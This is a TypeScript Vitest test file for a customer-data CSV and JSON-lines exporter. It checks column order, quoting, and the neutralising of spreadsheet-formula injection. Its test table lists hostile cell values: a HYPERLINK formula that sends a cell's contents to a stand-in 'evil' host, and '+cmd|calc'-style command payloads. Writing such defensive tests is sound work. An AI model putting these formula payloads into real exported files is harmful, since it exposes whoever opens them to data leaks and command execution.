import { scoreNames, type TimeMs } from '@tidemark/domain';
import type { CustomerNow } from '@tidemark/reading';
import { expect, test } from 'vitest';
import { COLUMNS } from './columns.ts';
import { ROW_FORMATS } from './format-rows.ts';

const unknown: CustomerNow = {
  customerId: 'Anna, "the first"\n',
  lane: 0,
  clock: 'event',
  policy: null,
  profile: null,
  at: Date.UTC(1998, 5, 30) as TimeMs,
  scores: Object.fromEntries(scoreNames.map((name) => [name, null])) as CustomerNow['scores'],
  tier: null,
  upgrading: [],
};

const names = COLUMNS.map(({ name }) => name);

test('no two columns have one name', () => {
  expect(new Set(names).size).toBe(names.length);
});

test('the columns and their order are a promise to whoever has scripts', () => {
  expect(names.slice(0, 30)).toMatchInlineSnapshot(`
    [
      "customer_id",
      "at",
      "tier",
      "points",
      "tier_since",
      "tier_below_since",
      "tier_changes",
      "next_tier",
      "next_tier_at",
      "rfm_recency",
      "rfm_frequency",
      "rfm_monetary",
      "rfm_segment",
      "rfm_spend_band",
      "rfm_days_since_last_order",
      "rfm_orders",
      "rfm_monetary_minor",
      "rfm_next_change_at",
      "behaviour_band",
      "behaviour_score",
      "behaviour_next_change_at",
      "churn_risk_band",
      "churn_pace",
      "churn_risk",
      "churn_p_alive",
      "churn_repeat_occasions",
      "churn_silence_days",
      "churn_purchase_interval_days",
      "churn_overdue_days",
      "churn_next_change_at",
    ]
  `);
});

test('CSV quotes what has commas, quotation marks and line breaks, and leaves the unknown empty', () => {
  const row = ROW_FORMATS.csv.row(unknown);
  expect(row.startsWith('"Anna, ""the first""\n",1998-06-30T00:00:00.000Z,,')).toBe(true);
  expect(ROW_FORMATS.csv.row({ ...unknown, customerId: 'a,b' }).startsWith('"a,b",')).toBe(true);
  expect(row.split(',').length).toBe(COLUMNS.length + 1);
});

test.each([
  ['=HYPERLINK("http://evil?"&A1)', `"'=HYPERLINK(""http://evil?""&A1)"`],
  ['+cmd|calc', "'+cmd|calc"],
  ['-cmd|calc', "'-cmd|calc"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['-3.5', '-3.5'],
  ['+41791234567', '+41791234567'],
  ['-3.5+2', "'-3.5+2"],
  ['a=1', 'a=1'],
])('a cell %j, which a spreadsheet could run, is a text in CSV: %s', (customerId, cell) => {
  expect(ROW_FORMATS.csv.row({ ...unknown, customerId }).startsWith(`${cell},1998-`)).toBe(true);
  const exact = /["\r]/.test(customerId) ? `"${customerId.replaceAll('"', '""')}"` : customerId;
  expect(ROW_FORMATS['raw-csv'].row({ ...unknown, customerId }).startsWith(`${exact},1998-`)).toBe(true);
  expect(JSON.parse(ROW_FORMATS.jsonl.row({ ...unknown, customerId })).customer_id).toBe(customerId);
});

test('JSON lines have every column, null where unknown', () => {
  const row: unknown = JSON.parse(ROW_FORMATS.jsonl.row(unknown));
  expect(Object.keys(row as object)).toEqual(COLUMNS.map(({ name }) => name));
  expect(row).toMatchObject({ customer_id: unknown.customerId, tier: null, churn_risk: null });
});

test('both formats give numbers with all their digits', () => {
  const place = { timelineOffset: 1, streamTime: unknown.at, ageMs: 0 };
  const score = { view: { band: 'hot' }, exact: { score: 1 / 3 }, next: null, place };
  const customer = { ...unknown, scores: { ...unknown.scores, behaviour: score } };
  expect(ROW_FORMATS.csv.row(customer)).toContain(',hot,0.3333333333333333,');
  expect(ROW_FORMATS.jsonl.row(customer)).toContain('"behaviour_score":0.3333333333333333,');
});
